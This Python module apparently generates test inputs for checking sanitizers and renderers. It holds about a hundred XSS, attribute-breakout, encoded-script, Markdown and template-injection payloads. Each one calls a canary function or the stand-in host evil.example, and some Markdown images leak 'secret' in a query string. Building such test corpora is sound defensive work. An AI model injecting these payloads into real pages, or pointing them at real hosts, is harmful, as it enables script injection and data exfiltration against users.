"""A hundred texts that try to be more than text: markup, handlers, addresses of scripts, Markdown that would fetch, styles, templates.

Each asks `evil.example` for something or runs `stolen()`; where one of them works, a request or a call is seen.
"""

from __future__ import annotations

AT = "http://evil.example"
MARKUP = (
    "<script>stolen(N)</script>",
    f"<script src={AT}/N.js></script>",
    f"<img src={AT}/N.png>",
    "<img src=x onerror=stolen(N)>",
    "<svg onload=stolen(N)>",
    "<svg><script>stolen(N)</script></svg>",
    "<body onload=stolen(N)>",
    f"<iframe src={AT}/N></iframe>",
    "<iframe srcdoc='<script>parent.stolen(N)</script>'></iframe>",
    f"<object data={AT}/N></object>",
    f"<embed src={AT}/N>",
    f"<link rel=stylesheet href={AT}/N.css>",
    f"<style>@import '{AT}/N.css';</style>",
    f'<div style="background:url({AT}/N.png)">',
    f"<meta http-equiv=refresh content='0;url={AT}/N'>",
    f"<base href={AT}/>",
    f"<form action={AT}/N><button autofocus>",
    "<input autofocus onfocus=stolen(N)>",
    "<details open ontoggle=stolen(N)>",
    "<video><source onerror=stolen(N)></video>",
    f"<audio src={AT}/N.mp3 autoplay>",
    "<math><mtext><table><mglyph><style><img src=x onerror=stolen(N)>",
    '<noscript><p title="</noscript><img src=x onerror=stolen(N)>">',
    "<template><script>stolen(N)</script></template>",
    "<a href=javascript:stolen(N) id=x>x</a>",
    f"<a href={AT}/N ping={AT}/ping>x</a>",
    "<marquee onstart=stolen(N)>",
    "<xss onpointerenter=stolen(N) style=position:fixed;inset:0>",
    "</textarea><script>stolen(N)</script>",
    "</title><script>stolen(N)</script>",
    "--><script>stolen(N)</script><!--",
    "]]><script>stolen(N)</script>",
)
ATTRIBUTES = (
    '" onmouseover=stolen(N) x="',
    "' onfocus=stolen(N) autofocus x='",
    '"><script>stolen(N)</script>',
    "'><img src=x onerror=stolen(N)>",
    "` onerror=stolen(N) `",
    "&quot;&gt;&lt;script&gt;stolen(N)&lt;/script&gt;",
    "&#60;script&#62;stolen(N)&#60;/script&#62;",
    "\\x3cscript\\x3estolen(N)\\x3c/script\\x3e",
    "\\u003cscript\\u003estolen(N)\\u003c/script\\u003e",
    "%3Cscript%3Estolen(N)%3C/script%3E",
    "＜script＞stolen(N)＜/script＞",
    "<scr\u200bipt>stolen(N)</scr\u200bipt>",
    "\u202e<script>stolen(N)</script>",
    "<script\x00>stolen(N)</script>",
    "<\tscript>stolen(N)</script>",
    "<SCRIPT/SRC=" + AT + "/N.js>",
)
MARKDOWN = (
    f"![secret]({AT}/N.png?q=secret)",
    f"[click]({AT}/N?q=secret)",
    f"![][r]\n\n[r]: {AT}/N.png",
    f"<{AT}/N>",
    "[x](javascript:stolen(N))",
    f'![x]({AT}/N.png "title" onerror=stolen(N))',
    f"{AT}/N.png",
    f"[![x]({AT}/N.png)]({AT}/N)",
    "![x](data:text/html,<script>stolen(N)</script>)",
    f"> ![x]({AT}/N.png)",
    f"| ![x]({AT}/N.png) | b |\n|---|---|",
    f"```html\n<img src={AT}/N.png>\n```",
)
TEMPLATES = (
    "{{ 7*7 }}{{ stolen(N) }}",
    "{% include 'base.html' %}",
    "${stolen(N)}",
    "<%= stolen(N) %>",
    "{{constructor.constructor('stolen(N)')()}}",
    "#{stolen(N)}",
    "[[${stolen(N)}]]",
    "{!! stolen(N) !!}",
)
BASES = (*MARKUP, *ATTRIBUTES, *MARKDOWN, *TEMPLATES)


def payloads(count: int = 100) -> list[str]:
    """So many different texts, each with its number in it; what goes past the list comes again within an honest sentence."""
    plain = [text.replace("N", str(number)) for number, text in enumerate(BASES)]
    within = [f"All backups are encrypted. {text.replace('N', str(len(plain) + number))} Keys rotate." for number, text in enumerate(BASES)]
    return [*plain, *within][:count]
